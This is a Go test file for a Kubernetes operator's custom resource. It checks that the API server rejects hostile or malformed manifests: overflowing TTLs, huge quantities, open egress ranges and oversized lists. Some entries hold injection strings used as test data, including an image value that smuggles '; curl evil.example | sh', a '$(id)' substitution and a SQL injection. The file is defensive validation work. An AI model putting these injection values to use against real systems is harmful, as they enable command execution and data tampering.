package v1alpha1_test

import (
	"fmt"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"
)

// The hostile table (issue 15): manifests a careless or hostile user could write, each refused by
// the API server with the message it must give. The operator's part of the table (manifests that
// pass admission and are then reported in a condition) is controllers/hostile_test.go.
//
// Manifests are sent with strict field validation, as kubectl sends them, so a misspelt field is
// an error rather than a warning. Every entry must also be answered quickly: an input built to
// make CEL expensive must be refused by a bound, not by a timeout.

// admissionLatency bounds how long the API server may take over any entry.
const admissionLatency = 5 * time.Second

// rejectedAtAdmission counts the entries that passed, for the closing note's figures.
var rejectedAtAdmission int

// src is the smallest valid source, for entries about other fields.
const src = "  source: {namespace: shop}\n"

// manifest wraps a spec (YAML indented by two spaces) into a MirrorEnvironment.
func manifest(spec string) string {
	counter++
	return fmt.Sprintf("apiVersion: envmirror.io/v1alpha1\nkind: MirrorEnvironment\nmetadata: {name: hostile-%d, namespace: dev}\nspec:\n%s", counter, spec)
}

// createStrict creates the object a YAML document describes, with strict field validation.
func createStrict(doc string) (*unstructured.Unstructured, error) {
	u := &unstructured.Unstructured{}
	Expect(yaml.Unmarshal([]byte(doc), &u.Object)).To(Succeed(), "the entry's YAML:\n%.2000s", doc)
	return u, k8s.Create(ctx, u, client.FieldValidation("Strict"))
}

// list renders n flow-style YAML items made by item(i).
func list(n int, item func(i int) string) string {
	m := flowMap(n, item)
	return "[" + m[1:len(m)-1] + "]"
}

// flowMap renders a flow-style YAML map of n entries, made by entry(i).
func flowMap(n int, entry func(i int) string) string {
	parts := make([]string, n)
	for i := range parts {
		parts[i] = entry(i)
	}
	return "{" + strings.Join(parts, ", ") + "}"
}

// tables renders a rows.tables map of n tables with rows rows each.
func tables(n int, rows int64) string {
	return flowMap(n, func(i int) string { return fmt.Sprintf("t%d: %d", i, rows) })
}

// labels renders n label pairs.
func labels(n int) string {
	return flowMap(n, func(i int) string { return fmt.Sprintf("l%d: v", i) })
}

func repeat(s string, n int) string { return strings.Repeat(s, n) }

// databases renders n stand-in databases whose rows.tables ask for rows rows each.
func databases(n int, rows int64) string {
	return list(n, func(i int) string {
		return fmt.Sprintf("{name: db%d, standIn: {version: '16'}, rows: {tables: {orders: %d}}}", i, rows)
	})
}

var _ = DescribeTable("the hostile table: refused at admission",
	func(doc, message string) {
		if !strings.HasPrefix(doc, "apiVersion:") {
			doc = manifest(doc)
		}
		start := time.Now()
		_, err := createStrict(doc)
		Expect(err).To(HaveOccurred(), "the API server accepted:\n%.2000s", doc)
		Expect(err.Error()).To(ContainSubstring(message))
		Expect(time.Since(start)).To(BeNumerically("<", admissionLatency), "the API server took long over it")
		rejectedAtAdmission++
	},
	// Durations: one TTL must never stop every environment (issue 15, item 1).
	Entry("a ttl past Go's largest duration", src+"  ttl: 2562048h\n", `spec.ttl: Invalid value: "2562048h"`),
	Entry("a ttl that overflows only when its parts are added", src+"  ttl: 999999h999999h999999h\n", "ttl may be at most 8760h"),
	Entry("a ttl of zero", src+"  ttl: 0s\n", "ttl must be positive"),
	Entry("a ttl of zero in three parts", src+"  ttl: 0h0m0s\n", "ttl must be positive"),
	Entry("a negative ttl", src+"  ttl: -1h\n", `spec.ttl: Invalid value: "-1h"`),
	Entry("a ttl longer than a year", src+"  ttl: 8761h\n", "ttl may be at most 8760h"),
	Entry("a ttl in four parts", src+"  ttl: 1h1m1s1ms\n", `spec.ttl: Invalid value: "1h1m1s1ms"`),
	Entry("a ttl in days", src+"  ttl: 7d\n", `spec.ttl: Invalid value: "7d"`),
	Entry("a ttl given as a number", src+"  ttl: 3600\n", "spec.ttl: Invalid value: \"integer\": spec.ttl in body must be of type string"),
	Entry("an expiry that is not a time", src+"  expiresAt: tomorrow\n", `spec.expiresAt: Invalid value: "tomorrow"`),

	// Quantities: one must never burn a core (item 2).
	Entry("a storage size with a huge exponent", src+"  workloads: {storageSize: '1E+999999999'}\n", `spec.workloads.storageSize: Invalid value: "1E+999999999"`),
	Entry("a resources.max with a huge exponent", src+"  workloads: {resources: {max: {memory: '1E+999999999'}}}\n",
		`spec.workloads.resources.max.memory: Invalid value: "1E+999999999"`),
	Entry("a cpu cap in exponent notation", src+"  workloads: {resources: {max: {cpu: 1e3}}}\n", "spec.workloads.resources.max.cpu"),
	Entry("a storage size in exabytes", src+"  workloads: {storageSize: 1Ei}\n", `spec.workloads.storageSize: Invalid value: "1Ei"`),
	Entry("a storage size past 1Pi", src+"  workloads: {storageSize: 999999999999999Pi}\n", "a quantity is greater than 0 and at most 1Pi"),
	Entry("a storage size of zero", src+"  workloads: {storageSize: '0'}\n", "a quantity is greater than 0 and at most 1Pi"),
	Entry("a stand-in volume of zero", src+"  data: [{name: db, standIn: {version: '16', storage: 0Gi}}]\n", "a quantity is greater than 0 and at most 1Pi"),
	Entry("a negative memory cap", src+"  workloads: {resources: {max: {memory: -1Gi}}}\n", `spec.workloads.resources.max.memory: Invalid value: "-1Gi"`),
	Entry("a cap on a resource that is not scaled", src+"  workloads: {resources: {max: {nvidia.com/gpu: '1'}}}\n", "max caps only cpu, memory and ephemeral-storage"),
	Entry("a quantity of 40 digits", src+"  workloads: {storageSize: '"+repeat("9", 40)+"'}\n", "spec.workloads.storageSize: Too long"),

	// Images are references, not shell lines.
	Entry("an override image with spaces", src+"  overrides: [{workload: api, image: 'registry.example/api:1.0 ; curl evil.example | sh'}]\n",
		"spec.overrides[0].image: Invalid value"),
	Entry("an override image with a newline", src+"  overrides: [{workload: api, image: \"api:1.0\\nmalicious: true\"}]\n", "spec.overrides[0].image: Invalid value"),
	Entry("an override image with an empty tag", src+"  overrides: [{workload: api, image: 'api:'}]\n", "spec.overrides[0].image: Invalid value"),
	Entry("an override image with a short digest", src+"  overrides: [{workload: api, image: 'api@sha256:abc'}]\n", "spec.overrides[0].image: Invalid value"),
	Entry("an override image with capitals in the repository", src+"  overrides: [{workload: api, image: 'registry.example/Shop/API'}]\n", "spec.overrides[0].image: Invalid value"),
	Entry("an override env var name the API server refuses", src+"  overrides: [{workload: api, env: [{name: 'A=B', value: x}]}]\n",
		"spec.overrides[0].env[0].name in body should match"),
	Entry("an override env var name with a newline", src+"  overrides: [{workload: api, env: [{name: \"A\\nB\", value: x}]}]\n",
		"spec.overrides[0].env[0].name in body should match"),
	Entry("a stand-in image with shell characters", src+"  data: [{name: db, standIn: {version: '16', image: 'postgres:16$(id)'}}]\n",
		"spec.data[0].standIn.image: Invalid value"),

	// Isolation cannot be reopened by an allow-list.
	Entry("egress to everywhere", src+"  network: {allowedEgressCIDRs: [0.0.0.0/0]}\n", "a wider range such as 0.0.0.0/0 would re-open prod"),
	Entry("egress to every IPv6 address", src+"  network: {allowedEgressCIDRs: ['::/0']}\n", "a wider range such as 0.0.0.0/0 would re-open prod"),
	Entry("egress to a /7", src+"  network: {allowedEgressCIDRs: [10.0.0.0/7]}\n", "a wider range such as 0.0.0.0/0 would re-open prod"),
	Entry("egress with a prefix past 32", src+"  network: {allowedEgressCIDRs: [10.0.0.0/33]}\n", "each entry is a CIDR"),
	Entry("51 egress ranges", src+"  network: {allowedEgressCIDRs: "+list(51, func(i int) string { return fmt.Sprintf("10.%d.0.0/16", i) })+"}\n",
		"spec.network.allowedEgressCIDRs: Too many: 51: must have at most 50 items"),

	// Data volume: counts are bounded per table and in total, across databases.
	Entry("20 databases of 1e8 rows each", src+"  data: "+databases(20, 100_000_000)+"\n",
		"spec.data asks for more than 100000000 rows in all (rows.tables of every database)"),
	Entry("two databases of 6e7 rows", src+"  data: "+databases(2, 60_000_000)+"\n",
		"spec.data asks for more than 100000000 rows in all (rows.tables of every database)"),
	Entry("one database of 500 tables of 1e8 rows", src+"  data: [{name: db, standIn: {version: '16'}, rows: {tables: "+tables(500, 100_000_000)+"}}]\n",
		"rows.tables asks for more than 100000000 rows in all"),
	Entry("a table of 1e8+1 rows", src+"  data: [{name: db, standIn: {version: '16'}, rows: {tables: {orders: 100000001}}}]\n",
		"row counts are between 0 and 100000000"),
	Entry("501 tables", src+"  data: [{name: db, standIn: {version: '16'}, rows: {tables: "+tables(501, 1)+"}}]\n",
		"spec.data[0].rows.tables: Too many: 501: must have at most 500 items"),
	Entry("a default of 1e7+1 rows", src+"  data: [{name: db, standIn: {version: '16'}, rows: {default: 10000001}}]\n",
		"spec.data[0].rows.default: Invalid value: 10000001: spec.data[0].rows.default in body should be less than or equal to 10000000"),
	Entry("21 databases", src+"  data: "+databases(21, 1)+"\n", "spec.data: Too many: 21: must have at most 20 items"),
	Entry("a scale of 150%", src+"  data: [{name: db, standIn: {version: '16'}, schema: {fromDatabase: {secretRef: {name: dsn}}}, rows: {scale: '1.5'}}]\n",
		`spec.data[0].rows.scale: Invalid value: "1.5"`),
	Entry("a scale of zero", src+"  data: [{name: db, standIn: {version: '16'}, schema: {fromDatabase: {secretRef: {name: dsn}}}, rows: {scale: '0.0'}}]\n",
		"the fraction must be greater than 0"),
	Entry("a fractional seed", src+"  data: [{name: db, standIn: {version: '16'}, seed: 1.5}]\n", "spec.data[0].seed: Invalid value"),
	Entry("a stand-in version that is SQL", src+"  data: [{name: db, standIn: {version: \"16';DROP--\"}}]\n",
		"spec.data[0].standIn.version: Invalid value"),
	Entry("1001 values for a oneOf column", src+"  data: [{name: db, standIn: {version: '16'}, columns: [{table: t, column: c, generator: oneOf, values: "+
		list(1001, func(i int) string { return fmt.Sprint(i) })+"}]}]\n", "spec.data[0].columns[0].values: Too many: 1001: must have at most 1000 items"),

	// Tenancy: a copy of another prod is another environment; this cluster's system namespaces
	// are never a source, nor prod its own copy.
	Entry("kube-system as the source", "  source: {namespace: kube-system}\n", "system namespaces (kube-*) of this cluster cannot be mirrored"),
	Entry("kube-public as the source", "  source: {namespace: kube-public}\n", "system namespaces (kube-*) of this cluster cannot be mirrored"),
	Entry("the target is the source", "  source: {namespace: shop-prod}\n  targetNamespace: shop-prod\n", "targetNamespace must differ from source.namespace"),
	Entry("a source namespace in unicode", "  source: {namespace: prödukt}\n", `spec.source.namespace: Invalid value: "prödukt"`),
	Entry("a selector of 5000 labels", "  source: {namespace: shop, selector: {matchLabels: "+labels(5000)+"}}\n", "a selector has at most 64 labels and 64 expressions"),
	Entry("a cluster role name with a path", src+"  access: {clusterRole: '../cluster-admin', subjects: [{kind: User, name: eve}]}\n",
		`spec.access.clusterRole: Invalid value: "../cluster-admin"`),
	Entry("a service account subject without a namespace", src+"  access: {subjects: [{kind: ServiceAccount, name: default}]}\n",
		"namespace is set for a ServiceAccount subject and only for one"),
	Entry("51 access subjects", src+"  access: {subjects: "+list(51, func(i int) string { return fmt.Sprintf("{kind: User, name: u%d}", i) })+"}\n",
		"spec.access.subjects: Too many: 51: must have at most 50 items"),

	// Long strings and huge lists and maps are refused by a bound, before anything evaluates them.
	Entry("a branch of 201 characters", src+"  branch: "+repeat("b", 201)+"\n", "spec.branch: Too long: may not be more than 200 bytes"),
	Entry("a branch with a NUL byte", src+"  branch: \"feature/\\0x\"\n", "spec.branch: Invalid value"),
	Entry("a branch with an escape sequence", src+"  branch: \"feature/\\e[31mred\"\n", "spec.branch: Invalid value"),
	Entry("an ingress host template of 254 characters", src+"  network: {ingressHost: '{{ .Branch }}"+repeat("x", 241)+"'}\n",
		"spec.network.ingressHost: Too long: may not be more than 253 bytes"),
	Entry("31 ingress annotations", src+"  network: {ingress: {annotations: "+labels(31)+"}}\n", "spec.network.ingress.annotations: Too many: 31: must have at most 30 items"),
	Entry("an ingress annotation of 1025 characters", src+"  network: {ingress: {annotations: {a: "+repeat("v", 1025)+"}}}\n",
		"annotation keys are at most 253 characters and values at most 1024"),
	Entry("a secret template of 4097 characters", src+"  config: {secrets: {rules: [{secret: s, key: k, template: '"+repeat("x", 4097)+"'}]}}\n",
		"spec.config.secrets.rules[0].template: Too long: may not be more than 4096 bytes"),
	Entry("201 secret rules", src+"  config: {secrets: {rules: "+list(201, func(i int) string { return fmt.Sprintf("{secret: s%d, policy: Generate}", i) })+"}}\n",
		"spec.config.secrets.rules: Too many: 201: must have at most 200 items"),
	Entry("a rewrite of 1025 characters", src+"  config: {rewrite: [{from: "+repeat("h", 1025)+", to: db}]}\n",
		"spec.config.rewrite[0].from: Too long: may not be more than 1024 bytes"),
	Entry("201 excluded workloads", src+"  workloads: {exclude: "+list(201, func(i int) string { return fmt.Sprintf("w%d", i) })+"}\n",
		"spec.workloads.exclude: Too many: 201: must have at most 200 items"),

	// Inputs built to make CEL expensive: the list bounds refuse them first, and the API server's
	// cost budget stops what would get through.
	Entry("20000 overrides against a rule that compares every pair", src+"  overrides: "+
		list(20000, func(i int) string { return fmt.Sprintf("{workload: w%d, image: a}", i) })+"\n",
		"spec.overrides: Too many: 20000: must have at most 50 items"),
	Entry("2000 databases against the rule that sums their rows", src+"  data: "+databases(2000, 1)+"\n",
		"spec.data: Too many: 2000: must have at most 20 items"),

	// Unknown and mistyped fields: strict validation names them.
	Entry("a misspelt ttl", src+"  tll: 48h\n", `unknown field "spec.tll"`),
	Entry("a misspelt field deep in a database", src+"  data: [{name: db, standIn: {version: '16'}, rowz: {default: 5}}]\n", `unknown field "spec.data[0].rowz"`),
	Entry("replicas given as a word", src+"  workloads: {replicas: many}\n", "spec.workloads.replicas: Invalid value: \"string\""),
	Entry("overrides given as a map", src+"  overrides: {api: {image: a}}\n", `unknown field "spec.overrides.api"`),

	// Names.
	Entry("a name with capitals and underscores", "apiVersion: envmirror.io/v1alpha1\nkind: MirrorEnvironment\nmetadata: {name: Bad_Name, namespace: dev}\nspec:\n"+src,
		`metadata.name: Invalid value: "Bad_Name"`),
	Entry("a database name of 41 characters", src+"  data: [{name: "+repeat("d", 41)+", standIn: {version: '16'}}]\n",
		"spec.data[0].name: Too long: may not be more than 40 bytes"),
	Entry("a database and a dependency of one name", src+"  data: [{name: cache, standIn: {version: '16'}}]\n  dependencies: [{name: cache, engine: redis, version: '7.2'}]\n",
		"a name is used by both spec.data and spec.dependencies"),
	Entry("a dependency version with spaces", src+"  dependencies: [{name: cache, engine: redis, version: '7.2 latest'}]\n",
		`spec.dependencies[0].version: Invalid value: "7.2 latest"`),
)

var _ = DescribeTable("the hostile table: refused changes",
	func(before, after, message string) {
		u, err := createStrict(manifest(before))
		Expect(err).NotTo(HaveOccurred())
		changed := &unstructured.Unstructured{}
		Expect(yaml.Unmarshal([]byte("spec:\n"+after), &changed.Object)).To(Succeed())
		u.Object["spec"] = changed.Object["spec"]
		err = k8s.Update(ctx, u, client.FieldValidation("Strict"))
		Expect(err).To(HaveOccurred(), "the API server accepted the change to:\n%s", after)
		Expect(err.Error()).To(ContainSubstring(message))
		rejectedAtAdmission++
	},
	Entry("a changed source namespace", src, "  source: {namespace: other-team}\n", "source.namespace is immutable"),
	Entry("a target namespace removed", src+"  targetNamespace: shop-x\n", src, "targetNamespace is immutable"),
	Entry("the source made local while the target is its name", "  source: {namespace: shop, kubeconfigSecretRef: {name: prod}}\n  targetNamespace: shop\n",
		"  source: {namespace: shop}\n  targetNamespace: shop\n", "targetNamespace must differ from source.namespace"),
)

var _ = ReportAfterSuite("hostile table counts", func(Report) {
	fmt.Printf("hostile table (API): %d manifests rejected at admission\n", rejectedAtAdmission)
})

// The bounds themselves are admitted: each rule above refuses only what is past its bound.
var _ = DescribeTable("the hostile table's bounds are admitted",
	func(spec string) {
		_, err := createStrict(manifest(spec))
		Expect(err).NotTo(HaveOccurred())
	},
	Entry("a ttl of a year", src+"  ttl: 8760h\n"),
	Entry("a ttl in three parts", src+"  ttl: 1h30m0.5s\n"),
	Entry("quantities at 1Pi and at a millicore", src+"  workloads: {storageSize: 1Pi, resources: {max: {cpu: 1m, memory: 1Pi}}}\n"),
	Entry("20 databases of 5e6 rows each (1e8 in all)", src+"  data: "+databases(20, 5_000_000)+"\n"),
	Entry("egress to a /8", src+"  network: {allowedEgressCIDRs: [10.0.0.0/8, 'fd00::/16']}\n"),
	Entry("a branch in unicode", src+"  branch: feature/ünïcødé-🚀\n"),
	Entry("a selector of 64 labels", "  source: {namespace: shop, selector: {matchLabels: "+labels(64)+"}}\n"),
	Entry("kube-system of another cluster", "  source: {namespace: kube-system, kubeconfigSecretRef: {name: prod}}\n"),
)
